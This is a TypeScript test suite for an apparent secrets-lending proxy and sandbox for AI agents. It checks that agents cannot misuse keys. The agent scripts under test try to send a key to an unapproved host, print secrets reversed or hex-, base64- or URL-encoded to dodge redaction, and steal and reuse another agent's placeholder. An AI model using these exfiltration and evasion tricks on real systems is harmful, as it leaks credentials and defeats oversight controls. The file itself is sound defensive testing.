// Agents that try what they may not, through the real API, proxy and sandbox.
import assert from 'node:assert/strict'
import type { IncomingMessage, ServerResponse } from 'node:http'
import { type TestContext, test } from 'node:test'
import { type AuditEntry, api, type Json, type RunDetail } from '@keyward/contract'
import { redactionMark } from '../src/proxy/index.ts'
import { openUpstream } from './support/egress.ts'
import { eventually } from './support/eventually.ts'
import { codeOf, type RunningServer, startServer } from './support/server.ts'
import { approve, ended, oneKeyProject, startLeakedKey } from './support/steps.ts'

const host = 'payments.example.test'
const otherHost = 'collect.example.test'

type Upstream = { address: string; caPem: string }

async function register(server: RunningServer, name: string) {
  const { agent, apiKey } = await server.call(api.agents.register, { name })
  return { id: agent.id, apiKey }
}

/** Runs a script of the agent to its end: KEY holds the placeholder of a key of its own, which may go to `host`. */
async function runTask(
  t: TestContext,
  server: RunningServer,
  agentId: string,
  script: string,
  upstream: Upstream,
  environment: { [name: string]: string } = {},
  project = oneKeyProject(t),
  more: { [name: string]: Json } = {},
): Promise<RunDetail & { value: string }> {
  const run = await startLeakedKey(server, project.folder, (secretPath) => ({
    agentId,
    title: 'A task of a test',
    secretPath,
    field: 'value',
    variable: 'KEY',
    command: ['node', '--input-type=module', '-e', script],
    workspace: null,
    environment,
    destinations: [{ host, port: 443 }],
    route: upstream,
    ...more,
  }))
  await approve(server, run.id)
  return { ...(await ended(server, run.id)), value: project.value }
}

const entriesOf = async (server: RunningServer, type: string): Promise<AuditEntry[]> =>
  (await server.call(api.audit.list, { type, limit: 500 })).items

const outputOf = (run: RunDetail): string => {
  const output = run.tasks.find(({ id }) => id === 'agent')?.output
  return output && typeof output === 'object' && !Array.isArray(output) ? String(output['output']) : ''
}

async function isolated(t: TestContext, server: RunningServer): Promise<boolean> {
  const { sandbox } = await server.call(api.system.status, {})
  if (sandbox.level === 'none') t.skip(`no isolation on this machine: ${sandbox.reasons.join(' ')}`)
  return sandbox.level !== 'none'
}

test('LEND-1, LEND-2: a placeholder goes to the places of its lease and to no other host', async (t) => {
  const server = await startServer(t)
  if (!(await isolated(t, server))) return
  const seen: string[] = []
  const upstream = await openUpstream(
    t,
    (request, response) => {
      seen.push(request.headers.authorization ?? '')
      response.end(`you sent ${request.headers.authorization}`)
    },
    host,
  )
  const script = `
    const say = async (url) => {
      try {
        const answer = await fetch(url, { headers: { authorization: process.env.KEY } })
        console.log(new URL(url).host, answer.status, await answer.text())
      } catch (error) { console.log(new URL(url).host, 'refused') }
    }
    await say('https://${host}/v1'); await say('https://${otherHost}/v1'); await say('https://${host}:8443/v1')`
  const { id } = await register(server, 'sender')
  const run = await runTask(t, server, id, script, upstream)
  assert.equal(run.state, 'Succeeded', JSON.stringify(run.tasks.at(-1)))
  const lines = outputOf(run).trim().split('\n')
  assert.deepEqual(lines, [
    `${host} 200 you sent [redacted by Keyward]`,
    `${otherHost} refused`,
    `${host}:8443 refused`,
  ])
  assert.deepEqual(seen, [run.value])
  const denied = (await entriesOf(server, 'egress.denied')).map(({ target }) => target)
  assert.ok(denied.includes(`destination:${otherHost}:443`), denied.join())
  const { items } = await server.call(api.leases.list, { agentId: id })
  assert.deepEqual(
    items.map(({ state, uses }) => [state, uses]),
    [['revoked', 1]],
  )
})

test('SAND-1, LEND-2: a lent value that the command has from elsewhere is taken out of what it prints, written in any usual way', async (t) => {
  const server = await startServer(t)
  if (!(await isolated(t, server))) return
  const upstream = await openUpstream(t, (_request, response) => response.end('never asked'), host)
  const { id } = await register(server, 'talker')
  const script = `
    import { writeSync } from 'node:fs'
    const held = process.env.HELD
    const bytes = Buffer.from(held)
    const ways = [held, [...held].reverse().join(''), bytes.toString('hex'), bytes.toString('hex').toUpperCase(),
      bytes.toString('base64'), encodeURIComponent(held), JSON.stringify(held)]
    for (const way of ways) for (const part of way + '\\n') { writeSync(1, part); writeSync(2, part) }
    writeSync(1, 'the end\\n')
    process.exit(Number(process.env.CODE))`
  for (const code of ['0', '3']) {
    const project = oneKeyProject(t)
    const { value } = project
    const run = await runTask(t, server, id, script, upstream, { HELD: value, CODE: code }, project)
    const agent = run.tasks.find((task) => task.id === 'agent')
    const said = JSON.stringify(agent)
    for (const form of [value, [...value].reverse().join(''), Buffer.from(value).toString('base64')])
      assert.ok(!said.includes(form), `exit code ${code}: ${form === value ? 'plain' : 'in another way'}`)
    for (const form of [Buffer.from(value).toString('hex'), encodeURIComponent(value)])
      assert.ok(!said.toLowerCase().includes(form.toLowerCase()), `exit code ${code}: in another way`)
    const lines = outputOf(run).trim().split('\n')
    if (code === '0')
      assert.ok(lines.length === 8 && lines.slice(0, 7).every((line) => line.includes(redactionMark)))
    else assert.match(agent?.reason ?? '', /it exited with 3: .*redacted by Keyward/s)
  }
})

test('LEND-1, LEND-2: a task uses its secret in one place of a request, as often as its budget says', async (t) => {
  const server = await startServer(t)
  if (!(await isolated(t, server))) return
  const seen: string[] = []
  const upstream = await openUpstream(
    t,
    (request, response) => {
      seen.push(String(request.headers['x-key']))
      response.end(`you sent ${request.headers['x-key']}`)
    },
    host,
  )
  const script = `
    const key = process.env.KEY
    const say = async (path, init) => {
      const answer = await fetch('https://${host}' + path, init)
      const text = await answer.text()
      console.log(answer.status, answer.ok ? text : JSON.parse(text).code)
    }
    console.log(key.slice(0, 12))
    await say('/v1/a/refunds', { headers: { 'x-key': key } })
    await say('/v1/a/refunds', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ key }) })
    await say('/v1/a/refunds?key=' + key)
    await say('/v2', { headers: { 'x-key': key } })
    await say('/v1/b/refunds', { headers: { 'x-key': key } })
    await say('/v1/b/refunds', { headers: { 'x-key': key } })`
  const { id } = await register(server, 'refunder')
  const run = await runTask(t, server, id, script, upstream, {}, oneKeyProject(t), {
    destinations: [{ host, port: 443, pathPattern: '/v1/*/refunds' }],
    injection: { kind: 'header', name: 'X-Key', prefix: 'sk_test_' },
    budget: { uses: 2 },
  })
  assert.deepEqual(outputOf(run).trim().split('\n'), [
    'sk_test_kwp_',
    '200 you sent [redacted by Keyward]',
    '403 egress.denied',
    '403 egress.denied',
    '403 egress.denied',
    '200 you sent [redacted by Keyward]',
    '403 lease.ended',
  ])
  assert.deepEqual(seen, [run.value, run.value])
  assert.equal((await server.call(api.system.status, {})).egress?.misused, 2)
  const { items } = await server.call(api.leases.list, { agentId: id })
  assert.deepEqual(
    items.map(({ state, uses, injection }) => [state, uses, injection.kind]),
    [['used_up', 2, 'header']],
  )
})

test('LEND-1: an agent cannot use the live lease of another one', async (t) => {
  const server = await startServer(t)
  if (!(await isolated(t, server))) return
  const held: ServerResponse[] = []
  const told: string[] = []
  const upstream = await openUpstream(
    t,
    (request: IncomingMessage, response) => {
      const placeholder = new URL(request.url ?? '/', 'https://x').searchParams.get('reversed')
      if (placeholder === null) return response.end('reached')
      told.push([...placeholder].reverse().join(''))
      held.push(response)
    },
    host,
  )
  // Backwards, the placeholder is plain text that nobody swaps: the first agent tells the world its own.
  const telling = `await fetch('https://${host}/?reversed=' + [...process.env.KEY].reverse().join(''))`
  const using = `const answer = await fetch('https://${host}/', { headers: { authorization: process.env.STOLEN } })
    console.log(answer.status, await answer.text())`
  const first = await register(server, 'first')
  const second = await register(server, 'second')
  const running = runTask(t, server, first.id, telling, upstream)
  await eventually(async () => told.length > 0, 'the first agent to tell its placeholder')
  const stolen = told[0] ?? ''
  assert.match(stolen, /^kwp_/)
  const thief = await runTask(t, server, second.id, using, upstream, { STOLEN: stolen })
  assert.match(outputOf(thief), /^403 /)
  assert.doesNotMatch(outputOf(thief), /reached/)
  assert.ok((await entriesOf(server, 'lease.misused')).some(({ actor }) => actor === `agent:${second.id}`))
  assert.equal((await server.call(api.system.status, {})).egress?.misused, 1)

  // Nor through the API: another agent sees no such lease, and ends none.
  const [lease] = (await server.call(api.leases.list, { agentId: first.id, state: 'active' })).items
  assert.ok(lease)
  assert.deepEqual(
    (await server.call(api.leases.list, { agentId: first.id }, second.apiKey)).items.map(
      ({ agentId }) => agentId,
    ),
    [second.id],
  )
  const revoke = await server.ask('POST', `/api/v1/leases/${lease.id}/revoke`, {
    token: second.apiKey,
    body: { reason: 'not mine' },
  })
  assert.deepEqual([revoke.status, codeOf(revoke)], [403, 'policy.denied'])
  for (const response of held) response.end('bye')
  assert.equal((await running).state, 'Succeeded')
})

test('IDENT-2: an agent with a key of its own sees its leases and nothing else, and gets no secret ungranted', async (t) => {
  const server = await startServer(t)
  const { apiKey } = await register(server, 'worker')
  await server.ask('PUT', '/v1/secret/data/shop/stripe', { body: { data: { value: 'test-value' } } })
  const ask = (method: string, path: string, body?: unknown) =>
    server.ask(method, `/api/v1${path}`, { token: apiKey, ...(body === undefined ? {} : { body }) })
  assert.equal((await ask('GET', '/leases')).status, 200)
  const wanted = { secretPath: 'secret/shop/stripe', purpose: 'to try', destinations: [{ host }] }
  const secret = { path: 'secret/shop/stripe', field: 'value' }
  const refusals = [
    await ask('POST', '/leases', wanted),
    await ask('POST', '/leases', { ...wanted, secretPath: 'secret/shop/nothing' }),
    await ask('POST', '/secrets/reveal', secret),
    await ask('POST', '/secrets/resolve', {
      references: ['keyward://secret/shop/stripe#value'],
      purpose: 'to try',
    }),
    await ask('GET', '/findings'),
    await ask('GET', '/audit'),
    await ask('POST', '/agents', { name: 'child' }),
    await ask('POST', '/scans', { path: '/', history: false }),
    await ask('POST', '/runs', { flow: 'leaked-key', input: {} }),
  ]
  for (const [i, refusal] of refusals.entries())
    assert.deepEqual([refusal.status, codeOf(refusal)], [403, 'policy.denied'], `${i}`)
  assert.ok(refusals.every(({ body }) => !JSON.stringify(body).includes('test-value')))
  const vault = await server.ask('GET', '/v1/secret/data/shop/stripe', {
    token: null,
    headers: { 'x-vault-token': apiKey },
  })
  assert.equal(vault.status, 403)
})

test('LEND-2: who is quarantined stops working at once, and begins nothing', async (t) => {
  const server = await startServer(t)
  if (!(await isolated(t, server))) return
  const told: string[] = []
  const upstream = await openUpstream(
    t,
    (request, response) => {
      told.push(request.url ?? '')
      response.end('go on')
    },
    host,
  )
  const { id } = await register(server, 'runaway')
  const endless = `await fetch('https://${host}/begun'); setInterval(() => {}, 1000)`
  const running = runTask(t, server, id, endless, upstream)
  await eventually(async () => told.length > 0, 'the agent to begin')
  await server.call(api.agents.quarantine, { agentId: id, reason: 'it does not end' })
  const run = await running
  assert.equal(run.state, 'Failed', JSON.stringify(run.tasks.at(-1)))
  assert.match(JSON.stringify(run.tasks.at(-1)), /agent\.inactive/)
  const [finished] = await entriesOf(server, 'sandbox.finished')
  assert.equal(finished?.outcome, 'failed')

  const next = await runTask(t, server, id, endless, upstream)
  assert.equal(next.state, 'Failed')
  assert.equal((await entriesOf(server, 'sandbox.started')).length, 1)
  assert.deepEqual(told, ['/begun'])
})

test('IDENT-2: quarantined, an agent is refused with its right key, until it is activated', async (t) => {
  const server = await startServer(t)
  const { id, apiKey } = await register(server, 'suspect')
  const leases = () => server.ask('GET', '/api/v1/leases', { token: apiKey })
  assert.equal((await leases()).status, 200)
  await server.call(api.agents.quarantine, { agentId: id, reason: 'calls odd hosts' })
  const refused = await leases()
  assert.deepEqual([refused.status, codeOf(refused)], [403, 'agent.inactive'])
  await server.stop('SIGKILL')
  const again = await startServer(t, { dataDir: server.dataDir, token: server.token })
  const still = await again.ask('GET', '/api/v1/leases', { token: apiKey })
  assert.deepEqual([still.status, codeOf(still)], [403, 'agent.inactive'])
  await again.call(api.agents.activate, { agentId: id })
  assert.equal((await again.ask('GET', '/api/v1/leases', { token: apiKey })).status, 200)
  const twice = await again.ask('POST', '/api/v1/agents', { body: { name: 'suspect' } })
  assert.deepEqual([twice.status, codeOf(twice)], [409, 'agent.exists'])
})
